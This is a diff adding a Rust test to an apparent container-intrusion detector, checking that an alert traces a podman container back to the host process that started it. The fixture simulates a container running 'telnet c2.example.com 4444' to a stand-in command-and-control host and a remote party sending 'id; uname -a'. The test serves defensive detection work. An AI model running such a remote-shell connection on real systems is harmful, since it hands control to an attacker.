@@ -231,6 +231,27 @@ fn who_started_it_is_told_when_only_one_can_have() {
 }
 
 #[test]
+fn who_started_it_is_told_of_podman_which_writes_the_registry_in_front() {
+    let line = "podman run --rm alpine telnet c2.example.com 4444";
+    let started_by = |image: &str| {
+        let mut world = World::new();
+        world.host_process(711, START_MS - 40, line);
+        // Without root it runs itself again.
+        world.host_child(711, 712, START_MS - 30, line);
+        let mut it = Box_::throw_away(2, "telnet c2.example.com 4444");
+        it.image = String::from(image);
+        world.start(&it);
+        let mut talk = Talk::open(&it, 52_000, (FAR, 4444), START_MS + 250);
+        world.socket(&talk, it.cgroup, it.pid);
+        talk.far(2, "id; uname -a\n");
+        world.talk(talk.end());
+        world.alert().subjects[0].started_by.as_ref().map(|actor| actor.pid)
+    };
+    assert_eq!(started_by("localhost/alpine:latest"), Some(711));
+    assert_eq!(started_by("registry.example/mine/alpine:latest"), None);
+}
+
+#[test]
 fn who_started_it_is_told_also_when_that_is_known_late() {
     let mut world = World::new();
     literal(&mut world, Mask::Open);
